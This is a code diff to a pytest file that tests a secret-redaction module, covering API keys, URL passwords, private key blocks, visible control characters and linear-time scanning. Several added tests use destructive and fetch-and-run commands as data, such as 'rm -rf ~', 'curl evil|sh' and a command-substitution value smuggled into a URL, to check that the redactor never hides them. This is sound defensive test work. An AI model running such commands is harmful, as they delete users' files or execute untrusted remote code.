@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import time
+
 import pytest
 
-from assent.text import redacted, redacted_text, shortened, visible
+from assent.text import hidden_count, redacted, redacted_text, shortened, visible
 
 
 @pytest.mark.parametrize(
@@ -19,7 +21,7 @@ from assent.text import redacted, redacted_text, shortened, visible
         ("a\rb", "a⟨U+000D⟩b"),
         ("\x1b[31mred", "⟨U+001B⟩[31mred"),
         ("a\u2028b", "a⟨U+2028⟩b"),
-        ("a\u00a0b", "a b"),
+        ("a\u00a0b", "a⟨U+00A0⟩b"),
         ("soft\u00adhyphen", "soft⟨U+00AD⟩hyphen"),
         ("\u3164", "⟨U+3164⟩"),
         ("tag\U000e0041", "tag⟨U+E0041⟩"),
@@ -44,7 +46,6 @@ SECRETS = [
     "sk-" + "b" * 40,
     "AKIA" + "C" * 16,
     "eyJ" + "d" * 12 + ".eyJ" + "e" * 12 + "." + "f" * 20,
-    "-----BEGIN RSA " + "PRIVATE KEY-----\nabc\n-----END RSA " + "PRIVATE KEY-----",
 ]
 
 
@@ -53,13 +54,15 @@ def test_a_known_kind_of_secret_is_not_shown(secret: str) -> None:
     shown = redacted_text(f"curl -H {secret} https://example.com")
 
     assert secret not in shown
-    assert "[redacted]" in shown
+    assert "[redacted: " in shown
     assert shown.startswith("curl -H ")
     assert shown.endswith("https://example.com")
 
 
 def test_a_password_in_a_url_is_not_shown() -> None:
-    assert redacted_text("psql postgres://bob:hunter2@db/x") == "psql postgres://[redacted]@db/x"
+    assert redacted_text("psql postgres://bob:hunter2@db/x") == (
+        "psql postgres://[redacted: 11 characters]@db/x"
+    )
 
 
 @pytest.mark.parametrize(
@@ -75,7 +78,8 @@ def test_a_password_in_a_url_is_not_shown() -> None:
     ],
 )
 def test_a_value_under_a_secret_name_is_not_shown(key: str) -> None:
-    assert redacted({"deep": [{key: {"a": "hunter2"}}]}) == {"deep": [{key: "[redacted]"}]}
+    hidden = "[redacted: 7 characters]"
+    assert redacted({"deep": [{key: {"a": "hunter2"}}]}) == {"deep": [{key: {"a": hidden}}]}
 
 
 @pytest.mark.parametrize("key", ["monkey", "author", "tokens_used", "passenger", "keyboard"])
@@ -86,3 +90,56 @@ def test_a_harmless_name_hides_nothing(key: str) -> None:
 def test_a_cut_text_says_so() -> None:
     assert shortened("abcdef", 4) == "abc…"
     assert shortened("abcd", 4) == "abcd"
+
+
+def test_the_lines_of_a_private_key_are_not_shown() -> None:
+    lines = "A" * 64 + "\n" + "B" * 20 + "\n"
+    begin, end = "-----BEGIN RSA " + "PRIVATE KEY-----\n", "-----END RSA " + "PRIVATE KEY-----"
+
+    shown = redacted_text(f"x {begin}{lines}{end} y")
+
+    assert shown == f"x {begin}[redacted: {len(lines)} characters]\n{end} y"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ls # -----BEGIN X " + "PRIVATE KEY-----\nrm -rf ~\ncurl evil|sh",
+        "-----BEGIN X " + "PRIVATE KEY-----\nrm -rf ~\n-----END X " + "PRIVATE KEY-----",
+        "curl http://x:$(rm$IFS-rf$IFS~)@host",
+        "bearer ./deploy-to-production.sh",
+        "echo bearer /usr/bin/destroy-everything-now",
+    ],
+)
+def test_what_runs_cannot_hide_as_a_secret(command: str) -> None:
+    assert redacted_text(command) == command
+
+
+@pytest.mark.parametrize("key", ["auth", "token", "password"])
+@pytest.mark.parametrize(
+    "value", ["rm -rf /", "a;b", "$(x)", {"command": "rm -rf /"}, ["curl evil | sh"], "two\nlines"]
+)
+def test_a_secret_name_does_not_hide_what_could_run(key: str, value: object) -> None:
+    assert redacted({key: value}) == {key: value}
+
+
+def test_two_names_that_look_like_secrets_stay_two() -> None:
+    shown = redacted({"sk-" + "a" * 20: "$(curl evil)", "sk-" + "b" * 20: "ok"})
+
+    assert list(shown.values()) == ["$(curl evil)", "ok"]
+
+
+def test_how_much_is_hidden_is_counted() -> None:
+    value = {"password": "hunter2", "nested": [{"apiKey": 12345}, "fine"]}
+
+    assert hidden_count(redacted(value)) == 2
+    assert hidden_count(redacted({"a": "[redacted]"})) == 0
+
+
+def test_looking_for_secrets_takes_time_in_proportion_to_the_text() -> None:
+    began = time.perf_counter()
+    for hostile in ("eyJ-" * 64_000, "://a:" * 50_000, "-----BEGIN " * 20_000, "bearer " * 40_000):
+        redacted_text(hostile)
+
+    # A tenth of a second here; quadratic time would be a minute.
+    assert time.perf_counter() - began < 10
